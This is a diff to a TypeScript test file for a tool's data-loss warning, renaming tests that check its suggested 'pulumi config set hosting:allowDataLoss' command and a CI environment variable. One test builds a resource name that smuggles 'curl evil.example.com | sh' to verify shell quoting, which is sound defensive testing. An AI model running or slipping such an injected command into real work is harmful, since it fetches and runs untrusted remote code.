@@ -6,7 +6,7 @@ import { report } from "./support";
 
 const { folder } = lossFiles();
 
-describe("the command that permits losses of data", () => {
+describe("the command in the caution that permits data losses", () => {
   const textOf = async (digest: Json, ...args: string[]) => {
     const file = join(folder, "preview.json");
     writeFileSync(file, JSON.stringify(digest, undefined, 4));
@@ -21,7 +21,7 @@ describe("the command that permits losses of data", () => {
     expect(blockAfter(out, "run this command:")).toBe(`pulumi config set hosting:allowDataLoss '${BOTH}'`);
   });
 
-  test("the command keeps the present entries of the setting that match a resource, and the caution states this", async () => {
+  test("the command keeps the entries of hosting:allowDataLoss that match a resource, and the caution states this", async () => {
     const digest = deletion();
     digest.config["hosting:allowDataLoss"] = "Volume:data#1003,Volume:gone";
     const out = await textOf(digest);
@@ -30,7 +30,7 @@ describe("the command that permits losses of data", () => {
     );
   });
 
-  test("the command without values omits the present entries of the setting, and the caution states that the command replaces them", async () => {
+  test("the command of --no-values leaves out the entries that hosting:allowDataLoss has, and the caution warns that they are replaced", async () => {
     const digest = deletion();
     digest.config["hosting:allowDataLoss"] = "Volume:data#1003,Volume:data";
     const out = await textOf(digest, "--no-values");
@@ -40,7 +40,7 @@ describe("the command that permits losses of data", () => {
     expect(out).not.toMatch(/100[34]/);
   });
 
-  test("the command quotes names for a shell, and is not shortened", async () => {
+  test("the command contains every name in full, quoted for a shell", async () => {
     const digest = deletion();
     const name = `x'; curl evil.example.com | sh; '${"`".repeat(4)}${"y".repeat(400)}`;
     for (const step of digest.steps) step.urn = step.urn.replace(":Volume::old-uploads", `:Volume::${name}`);
@@ -86,7 +86,7 @@ describe("the command that permits losses of data", () => {
     expect(blockAfter(await textOf(digest), "run this command:")).toContain("Volume:volume-39#1004");
   });
 
-  test("the command for several refusals contains the entries of all refusals", async () => {
+  test("the command after several refused deletions contains the entries of all of them", async () => {
     const refused = (name: string, id: string) =>
       `deleting Volume "${name}" (id ${id}) would delete data: its files. It was not deleted and stays in the state. To delete it: pulumi config set hosting:allowDataLoss 'Volume:old#1,Volume:${name}#${id}'.`;
     const events = ["a", "b"].flatMap((name, n) => [
@@ -152,7 +152,7 @@ describe("permissions in a pipeline", () => {
     expect((await report([file], { environment: { CI: "true" } })).out).toContain("It takes the same list");
   });
 
-  test("the report applies HOSTING_ALLOW_DATA_LOSS instead of the setting", async () => {
+  test("the report uses HOSTING_ALLOW_DATA_LOSS instead of the setting if the variable is set and not empty", async () => {
     const digest = deletion();
     digest.config["hosting:allowDataLoss"] = "ManagedDatabase:orders";
     const { out } = await run(digest, { CI: "true", HOSTING_ALLOW_DATA_LOSS: "Volume:old-uploads#1004" });
@@ -165,7 +165,7 @@ describe("permissions in a pipeline", () => {
     expect((await run(deletion(), { CI: "true", HOSTING_ALLOW_DATA_LOSS: "" })).out).toContain("pulumi config set hosting:allowDataLoss");
   });
 
-  test("the caution names only the variable if the program declares no resource of this package any more", async () => {
+  test("the caution names only the variable if the program no longer declares any resource of this package", async () => {
     const digest = deletion();
     digest.config["hosting:allowDataLoss"] = "Volume:old-uploads,ManagedDatabase:orders";
     digest.steps = digest.steps.filter(({ op, urn }) => op === "delete" || urn.endsWith("pulumi:pulumi:Stack::shop-infra-prod"));
